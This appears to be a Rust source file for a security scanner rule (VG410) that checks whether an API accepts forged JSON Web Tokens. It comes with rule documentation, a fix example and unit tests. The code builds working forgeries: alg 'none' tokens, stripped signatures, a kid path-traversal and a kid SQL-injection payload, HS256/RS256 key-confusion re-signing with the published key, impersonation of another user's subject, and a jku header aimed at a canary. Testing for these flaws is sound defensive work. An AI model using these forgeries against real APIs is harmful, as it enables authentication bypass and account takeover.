//! VG410 jwt-forgery-accepted: the API accepts JSON Web Tokens it did not sign — `alg: none`,
//! a stripped signature, a `kid` that points the key lookup at an empty file or at SQL, or an
//! RS256 token re-signed with HS256 using the API's own public key — and a forged token for
//! another user acts as that user.

use std::borrow::Cow;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Map, Value};
use vibeguard_core::{
    ChecklistId, Confidence, EngineId, Evidence, Finding, OwaspApi, RuleDocs, RuleMeta, Severity,
};

use super::jwt::{self, Jwt, Signing};
use super::{Check, Context, Probe, http_evidence, location};
use crate::http::{Exchange, Request};
use crate::spec::Operation;

/// The check.
#[derive(Debug)]
pub struct JwtForgeryAccepted;

static META: RuleMeta = RuleMeta {
    code: Cow::Borrowed("VG410"),
    name: Cow::Borrowed("jwt-forgery-accepted"),
    engine: EngineId::Api,
    summary: Cow::Borrowed("The API accepts JSON Web Tokens it did not sign"),
    severity: Severity::Critical,
    confidence: Confidence::Confirmed,
    cwe: Cow::Borrowed(&[347, 327, 290]),
    owasp_api: Some(OwaspApi::Api2BrokenAuthentication),
    checklist: Cow::Borrowed(&[ChecklistId::Auth07, ChecklistId::Auth04]),
    docs: RuleDocs {
        what: Cow::Borrowed(
            "The first identity's token is re-issued unsigned (`alg: none`, `None`, `NONE`), with \
             its signature stripped, with a `kid` header pointing at `/dev/null` (signed with an \
             empty key) or at an SQL expression, and — for RS/ES/PS tokens whose public key the \
             API publishes at a JWKS address — re-signed with HS256 using that public key. Each is \
             sent to a secured read that accepts the real token and refuses no token. A forged \
             token is also made for the second identity's subject: when it gets the second \
             identity's own answer, anyone can act as anyone. When the target runs on this \
             machine, a token whose `jku` header names vibeguard's canary on 127.0.0.1 is sent \
             too: a server that fetches that key set lets tokens choose their own key.",
        ),
        why: Cow::Borrowed(
            "A token whose signature is not checked is a form the client fills in: change `sub` \
             to any user id or `role` to `admin` and the API believes it.",
        ),
        example_bad: Cow::Borrowed(
            "const claims = jwt.decode(req.headers.authorization.slice(7)); // decode() does not verify\nreq.user = claims;",
        ),
        example_fixed: Cow::Borrowed(
            "req.user = jwt.verify(token, process.env.JWT_SECRET, { algorithms: ['HS256'] });",
        ),
        fix: Cow::Borrowed(
            "Verify every token with the library's verify function, pin the accepted algorithms \
             (never `none`, never both HS and RS for one key), and resolve `kid` only against a \
             fixed set of keys.",
        ),
        references: Cow::Borrowed(&[
            Cow::Borrowed(
                "https://cheatsheetseries.owasp.org/cheatsheets/JSON_Web_Token_for_Java_Cheat_Sheet.html",
            ),
            Cow::Borrowed("https://portswigger.net/web-security/jwt"),
            Cow::Borrowed("https://cwe.mitre.org/data/definitions/347.html"),
        ]),
    },
};

/// Where APIs publish their public keys.
const JWKS_PATHS: &[&str] = &[
    "/.well-known/jwks.json",
    "/jwks.json",
    "/.well-known/openid-configuration/jwks",
    "/oauth/jwks",
    "/api/auth/jwks",
];

fn object(value: Value) -> Map<String, Value> {
    match value {
        Value::Object(map) => map,
        _ => Map::new(),
    }
}

/// The canary path a forged token's `jku` points at.
const JKU_TOKEN: &str = "vg-jku/jwks.json";

/// The forged tokens of the first round, by label.
fn forgeries(own: &Jwt, raw: &str, other_subject: Option<&str>) -> Vec<(String, String)> {
    let mut forged = Vec::new();
    for spelling in ["none", "None", "NONE"] {
        let mut header = own.header.clone();
        header.insert("alg".into(), Value::String(spelling.into()));
        forged.push((
            format!("forged: alg {spelling}"),
            jwt::encode(&header, &own.claims, Signing::Unsigned),
        ));
    }
    if let Some((signed, _)) = raw.rsplit_once('.') {
        forged.push(("forged: stripped signature".into(), format!("{signed}.")));
    }
    let mut header = own.header.clone();
    header.insert("alg".into(), Value::String("HS256".into()));
    header.insert(
        "kid".into(),
        Value::String("../../../../../../../../dev/null".into()),
    );
    forged.push((
        "forged: kid /dev/null with an empty key".into(),
        jwt::encode(&header, &own.claims, Signing::Hmac("HS256", b"")),
    ));
    header.insert(
        "kid".into(),
        Value::String("vibeguard' UNION SELECT 'vibeguard-kid-key' -- ".into()),
    );
    forged.push((
        "forged: kid SQL injection".into(),
        jwt::encode(
            &header,
            &own.claims,
            Signing::Hmac("HS256", b"vibeguard-kid-key"),
        ),
    ));
    if let Some(subject) = other_subject {
        let mut claims = own.claims.clone();
        claims.insert("sub".into(), Value::String(subject.into()));
        let mut header = own.header.clone();
        header.insert("alg".into(), Value::String("none".into()));
        forged.push((
            "forged: unsigned, for the other identity's subject".into(),
            jwt::encode(&header, &claims, Signing::Unsigned),
        ));
    }
    forged
}

/// An RSA public key from a JWK as PEM, in the two encodings libraries read
/// (`BEGIN PUBLIC KEY` — SubjectPublicKeyInfo — and `BEGIN RSA PUBLIC KEY` — PKCS#1).
fn rsa_pems(jwk: &Map<String, Value>) -> Vec<String> {
    let decode = |name: &str| {
        jwk.get(name)
            .and_then(Value::as_str)
            .and_then(|v| URL_SAFE_NO_PAD.decode(v.trim_end_matches('=')).ok())
    };
    let (Some(n), Some(e)) = (decode("n"), decode("e")) else {
        return Vec::new();
    };
    let pkcs1 = der_sequence(&[der_integer(&n), der_integer(&e)]);
    // AlgorithmIdentifier rsaEncryption (1.2.840.113549.1.1.1) with NULL parameters.
    let algorithm = [
        0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00,
    ];
    let mut bit_string = vec![0x00];
    bit_string.extend_from_slice(&pkcs1);
    let spki = der_sequence(&[algorithm.to_vec(), der_tagged(0x03, &bit_string)]);
    let pem = |label: &str, der: &[u8]| {
        let body = STANDARD.encode(der);
        let lines: Vec<&str> = body
            .as_bytes()
            .chunks(64)
            .filter_map(|c| std::str::from_utf8(c).ok())
            .collect();
        format!(
            "-----BEGIN {label}-----\n{}\n-----END {label}-----\n",
            lines.join("\n")
        )
    };
    let spki_pem = pem("PUBLIC KEY", &spki);
    let pkcs1_pem = pem("RSA PUBLIC KEY", &pkcs1);
    vec![
        spki_pem.clone(),
        spki_pem.trim_end().to_string(),
        pkcs1_pem.clone(),
        pkcs1_pem.trim_end().to_string(),
    ]
}

fn der_length(len: usize) -> Vec<u8> {
    if len < 0x80 {
        return vec![len as u8];
    }
    let bytes: Vec<u8> = len
        .to_be_bytes()
        .into_iter()
        .skip_while(|b| *b == 0)
        .collect();
    let mut out = vec![0x80 | bytes.len() as u8];
    out.extend(bytes);
    out
}

fn der_tagged(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    out.extend(der_length(content.len()));
    out.extend_from_slice(content);
    out
}

fn der_integer(unsigned: &[u8]) -> Vec<u8> {
    let trimmed: Vec<u8> = unsigned.iter().copied().skip_while(|b| *b == 0).collect();
    let mut content = Vec::with_capacity(trimmed.len() + 1);
    if trimmed.first().is_none_or(|b| *b & 0x80 != 0) {
        content.push(0);
    }
    content.extend(trimmed);
    der_tagged(0x02, &content)
}

fn der_sequence(items: &[Vec<u8>]) -> Vec<u8> {
    der_tagged(0x30, &items.concat())
}

impl JwtForgeryAccepted {
    /// The token, the operation it is tried on and its request.
    fn setup<'a>(context: &'a Context<'_>) -> Option<(Jwt, &'a str, &'a Operation, Request)> {
        let (_, view, own) = jwt::identity_tokens(context)
            .into_iter()
            .find(|(index, _, _)| *index == 0)?;
        let (operation, request) = jwt::target_operation(context)?;
        Some((own, view.token.as_str(), operation, request))
    }
}

impl Check for JwtForgeryAccepted {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn not_applicable(&self, context: &Context<'_>) -> Option<&'static str> {
        if jwt::identity_tokens(context)
            .iter()
            .all(|(i, _, _)| *i != 0)
        {
            return Some("the first identity's credential is not a JSON Web Token");
        }
        jwt::target_operation(context)
            .is_none()
            .then_some("no secured GET operation to try tokens on")
    }

    fn plan_target(&self, context: &Context<'_>) -> Vec<Probe> {
        let Some((own, raw, _, request)) = Self::setup(context) else {
            return Vec::new();
        };
        let view = &context.identities[0];
        let other_subject = jwt::identity_tokens(context)
            .into_iter()
            .find(|(index, _, _)| *index == 1)
            .and_then(|(_, _, token)| token.claim_text("sub"))
            .filter(|sub| own.claim_text("sub").as_ref() != Some(sub));
        let mut probes = jwt::reference_probes(&request, context);
        let mut forged = forgeries(&own, raw, other_subject.as_deref());
        if let Some(canary) = context.canary {
            // A key URL in the token itself: a server that follows it lets the token choose the
            // key that verifies it. The canary records the fetch whatever the answer.
            let mut header = own.header.clone();
            header.insert("alg".into(), Value::String("RS256".into()));
            header.insert("kid".into(), Value::String("vibeguard".into()));
            header.insert("jku".into(), Value::String(canary.url(JKU_TOKEN)));
            forged.push((
                "forged: jku pointing at another key set".into(),
                jwt::encode(
                    &header,
                    &own.claims,
                    Signing::Hmac("HS256", b"vibeguard-jku"),
                ),
            ));
        }
        for (label, token) in forged {
            probes.push(Probe {
                label,
                identity: None,
                request: jwt::with_token(&request, view, &token),
            });
        }
        if !own.alg().starts_with("HS")
            && let Some(base) = context.base.join("/").ok()
        {
            for path in JWKS_PATHS {
                if let Ok(url) = base.join(path.trim_start_matches('/')) {
                    probes.push(Probe {
                        label: format!("jwks {path}"),
                        identity: None,
                        request: Request::new("GET", url),
                    });
                }
            }
        }
        probes
    }

    fn follow_up(
        &self,
        _operation: &Operation,
        results: &[(Probe, Exchange)],
        context: &Context<'_>,
    ) -> Vec<Probe> {
        // Algorithm confusion: the published RSA keys, as HMAC secrets.
        if results
            .iter()
            .any(|(p, _)| p.label.starts_with("forged: HS256 with the public key"))
        {
            return Vec::new();
        }
        let Some((own, _, _, request)) = Self::setup(context) else {
            return Vec::new();
        };
        let view = &context.identities[0];
        let kid = own.header.get("kid").cloned();
        let mut probes = Vec::new();
        for (probe, exchange) in results {
            if !probe.label.starts_with("jwks ") {
                continue;
            }
            let Some(keys) = exchange
                .response()
                .filter(|r| r.is_success())
                .and_then(|r| r.json())
                .and_then(|v| v.get("keys").and_then(Value::as_array).cloned())
            else {
                continue;
            };
            for key in keys.into_iter().map(object) {
                if key.get("kty").and_then(Value::as_str) != Some("RSA")
                    || (kid.is_some() && key.get("kid") != kid.as_ref())
                {
                    continue;
                }
                for (index, pem) in rsa_pems(&key).iter().enumerate() {
                    let mut header = own.header.clone();
                    header.insert("alg".into(), Value::String("HS256".into()));
                    let token =
                        jwt::encode(&header, &own.claims, Signing::Hmac("HS256", pem.as_bytes()));
                    probes.push(Probe {
                        label: format!(
                            "forged: HS256 with the public key ({})",
                            [
                                "SPKI PEM",
                                "SPKI PEM without newline",
                                "PKCS#1 PEM",
                                "PKCS#1 PEM without newline"
                            ][index]
                        ),
                        identity: None,
                        request: jwt::with_token(&request, view, &token),
                    });
                }
            }
        }
        probes
    }

    fn evaluate(
        &self,
        _operation: &Operation,
        results: &[(Probe, Exchange)],
        context: &Context<'_>,
    ) -> Vec<Finding> {
        let Some((own, _, operation, _)) = Self::setup(context) else {
            return Vec::new();
        };
        let jku_fetched = context.canary.is_some_and(|c| c.was_hit(JKU_TOKEN));
        if !jwt::operation_discriminates(results) && !jku_fetched {
            return Vec::new();
        }
        let accepted: Vec<(&Probe, &Exchange)> = results
            .iter()
            .filter(|(probe, exchange)| {
                probe.label.starts_with("forged: ")
                    && exchange.response().is_some_and(|r| r.is_success())
            })
            .map(|(p, e)| (p, e))
            .collect();
        let jku_probe = results
            .iter()
            .find(|(p, _)| p.label.contains("jku"))
            .map(|(_, e)| e);
        let Some(first) = accepted
            .first()
            .map(|(_, e)| *e)
            .or(jku_probe.filter(|_| jku_fetched))
        else {
            return Vec::new();
        };
        let kinds: Vec<&str> = accepted
            .iter()
            .map(|(p, _)| p.label.trim_start_matches("forged: "))
            .collect();
        let impersonation = accepted.iter().find(|(p, e)| {
            p.label.contains("other identity's subject") && jwt::acts_as_other(results, e)
        });
        let mut message = if kinds.is_empty() {
            format!(
                "{} fetches signing keys from a URL in the token",
                operation.label()
            )
        } else {
            format!(
                "{} accepts tokens it did not sign ({})",
                operation.label(),
                kinds.join("; ")
            )
        };
        if jku_fetched {
            message.push_str(
                "; it fetched the key set named by a forged token's `jku` header (vibeguard's canary on 127.0.0.1 recorded the request): an attacker's key set would verify the attacker's tokens",
            );
        }
        if impersonation.is_some() {
            let other = context
                .identities
                .get(1)
                .map_or("another user", |i| i.name.as_str());
            message.push_str(&format!(
                ": an unsigned token naming {other}'s subject gets {other}'s own answer"
            ));
        }
        let evidence_exchange = impersonation.map_or(first, |(_, e)| *e);
        let mut finding = Finding::new(
            &META,
            location(operation, Some("token".into())),
            message,
            "jwt-forgery",
        )
        .with_evidence(http_evidence(evidence_exchange))
        .with_evidence(Evidence::Text {
            label: "the real token's header and claims".into(),
            text: format!(
                "{}\n{}",
                Value::Object(own.header.clone()),
                Value::Object(own.claims.clone())
            ),
        });
        if impersonation.is_none() && !jku_fetched && kinds.iter().all(|k| k.starts_with("kid")) {
            finding = finding.with_confidence(Confidence::Firm);
        }
        vec![finding]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rsa_public_keys_become_the_pem_texts_libraries_use_as_hmac_keys() {
        // A 512-bit test modulus (not a real key) and e = 65537.
        let jwk = object(serde_json::json!({
            "kty": "RSA",
            "n": "wWQ7ZiFQK0tQGMnxKyYmKsfqHgKNaDv6n7rObLk3KoO3C2mF_oVsAB-Mpd8sX6yxN6TW7IfFdrpGwTZdGwzg1w",
            "e": "AQAB"
        }));
        let pems = rsa_pems(&jwk);
        assert_eq!(pems.len(), 4);
        assert!(pems[0].starts_with("-----BEGIN PUBLIC KEY-----\nMFwwDQYJKoZIhvcNAQEBBQADSwAwSAJBAMFkO2YhUCtLUBjJ8SsmJirH6h4CjWg7"), "{}", pems[0]);
        assert!(pems[0].ends_with("-----END PUBLIC KEY-----\n"));
        assert!(pems[2].starts_with("-----BEGIN RSA PUBLIC KEY-----\nMEgCQQDBZDtmIVArS1AYyfErJiYqx+oeAo1oO/qfus5suTcqg7cLaYX+hWwAH4yl"), "{}", pems[2]);
        assert!(!pems[1].ends_with('\n'));
    }

    #[test]
    fn every_forgery_keeps_the_claims_but_not_a_valid_signature() {
        let header = object(serde_json::json!({"alg": "HS256", "typ": "JWT"}));
        let claims = object(serde_json::json!({"sub": "1", "role": "user"}));
        let raw = jwt::encode(&header, &claims, Signing::Hmac("HS256", b"k"));
        let own = Jwt::parse(&raw).expect("token");
        let forged = forgeries(&own, &raw, Some("2"));
        assert_eq!(forged.len(), 7);
        for (label, token) in &forged {
            let parsed = Jwt::parse(token).unwrap_or_else(|| panic!("{label}: {token}"));
            assert_ne!(parsed.signature, own.signature, "{label}");
        }
        let other = Jwt::parse(&forged[6].1).expect("token");
        assert_eq!(other.claim_text("sub").as_deref(), Some("2"));
        assert_eq!(other.alg(), "none");
    }

    #[test]
    fn a_jku_fetch_recorded_by_the_canary_is_reported_even_when_the_token_is_refused() {
        use crate::checks::testing::{Fixture, exchange, operation};
        use crate::http::canary::Canary;
        use crate::identity::Credential;
        let header = object(serde_json::json!({"alg": "HS256"}));
        let claims = object(serde_json::json!({"sub": "1"}));
        let raw = jwt::encode(&header, &claims, Signing::Hmac("HS256", b"k"));
        let mut fixture = Fixture::new();
        fixture
            .spec
            .operations
            .push(operation("GET", "/api/me", true));
        fixture.identities[0].token = raw.clone();
        fixture.identities[0].credential = Credential::Header {
            name: "Authorization".into(),
            value: format!("Bearer {raw}"),
        };
        let base = url::Url::parse("http://127.0.0.1:9/").expect("url");
        let before = Canary::recorded(base.clone(), Vec::new());
        let mut context = fixture.context();
        context.canary = Some(&before);
        let planned = JwtForgeryAccepted.plan_target(&context);
        let jku = planned
            .iter()
            .find(|p| p.label.contains("jku"))
            .expect("a jku forgery when a canary listens");
        let token = jku
            .request
            .header_value("authorization")
            .and_then(|v| v.strip_prefix("Bearer "))
            .expect("bearer");
        let forged = Jwt::parse(token).expect("token");
        assert_eq!(
            forged.header.get("jku").and_then(Value::as_str),
            Some("http://127.0.0.1:9/vg-jku/jwks.json")
        );
        // Every forgery refused; the reference works.
        let results: Vec<(Probe, Exchange)> = planned
            .iter()
            .map(|probe| {
                let status = if probe.label == "reference" { 200 } else { 401 };
                let mut recorded = exchange("GET", probe.request.url.as_str(), status, &[], "{}");
                recorded.request = probe.request.clone();
                (probe.clone(), recorded)
            })
            .collect();
        let whole = Operation::whole_target();
        assert!(
            JwtForgeryAccepted
                .evaluate(&whole, &results, &context)
                .is_empty()
        );
        let after = Canary::recorded(base, vec!["/vg-jku/jwks.json".into()]);
        context.canary = Some(&after);
        let findings = JwtForgeryAccepted.evaluate(&whole, &results, &context);
        assert_eq!(findings.len(), 1);
        assert!(
            findings[0].message.contains("jku"),
            "{}",
            findings[0].message
        );
    }

    #[test]
    fn an_rs256_token_is_re_signed_with_the_published_key_and_acceptance_is_reported() {
        use crate::checks::testing::{Fixture, exchange, operation};
        use crate::identity::Credential;
        let header = object(serde_json::json!({"alg": "RS256", "kid": "k1"}));
        let claims = object(serde_json::json!({"sub": "1"}));
        // The signature is not checked by anything here: RS256 bytes are just bytes.
        let raw = jwt::encode(&header, &claims, Signing::Hmac("HS256", b"not-rsa"));
        let mut fixture = Fixture::new();
        fixture
            .spec
            .operations
            .push(operation("GET", "/api/me", true));
        fixture.identities[0].token = raw.clone();
        fixture.identities[0].credential = Credential::Header {
            name: "Authorization".into(),
            value: format!("Bearer {raw}"),
        };
        let context = fixture.context();
        let planned = JwtForgeryAccepted.plan_target(&context);
        assert!(
            planned
                .iter()
                .any(|p| p.label == "jwks /.well-known/jwks.json")
        );
        let jwks = r#"{"keys":[{"kty":"RSA","kid":"k1","e":"AQAB","n":"wWQ7ZiFQK0tQGMnxKyYmKsfqHgKNaDv6n7rObLk3KoO3C2mF_oVsAB-Mpd8sX6yxN6TW7IfFdrpGwTZdGwzg1w"}]}"#;
        let mut results: Vec<(Probe, Exchange)> = planned
            .iter()
            .map(|probe| {
                let (status, body) = match probe.label.as_str() {
                    "reference" => (200, "{\"id\":1}"),
                    "jwks /.well-known/jwks.json" => (200, jwks),
                    _ => (401, "{}"),
                };
                (
                    probe.clone(),
                    exchange("GET", probe.request.url.as_str(), status, &[], body),
                )
            })
            .collect();
        let confusion =
            JwtForgeryAccepted.follow_up(&Operation::whole_target(), &results, &context);
        assert_eq!(confusion.len(), 4, "{confusion:?}");
        // The first one is HS256-signed with the SPKI PEM text as the key.
        let value = confusion[0]
            .request
            .header_value("Authorization")
            .unwrap_or_default();
        let forged = Jwt::parse(value.trim_start_matches("Bearer ")).expect("token");
        assert_eq!(forged.alg(), "HS256");
        let pem = rsa_pems(&object(
            serde_json::from_str::<Value>(jwks).expect("json")["keys"][0].clone(),
        ))[0]
            .clone();
        assert_eq!(
            jwt::hmac("HS256", pem.as_bytes(), forged.signing_input.as_bytes()),
            Some(forged.signature.clone())
        );
        // The API accepts the second variant: reported, naming it.
        for (index, probe) in confusion.iter().enumerate() {
            let status = if index == 1 { 200 } else { 401 };
            results.push((
                probe.clone(),
                exchange("GET", probe.request.url.as_str(), status, &[], "{\"id\":1}"),
            ));
        }
        let findings = JwtForgeryAccepted.evaluate(&Operation::whole_target(), &results, &context);
        assert_eq!(findings.len(), 1);
        assert!(
            findings[0]
                .message
                .contains("HS256 with the public key (SPKI PEM without newline)"),
            "{}",
            findings[0].message
        );
        // Without the acceptance, nothing.
        results.retain(|(p, _)| !p.label.starts_with("forged: HS256"));
        assert!(
            JwtForgeryAccepted
                .evaluate(&Operation::whole_target(), &results, &context)
                .is_empty()
        );
    }
}
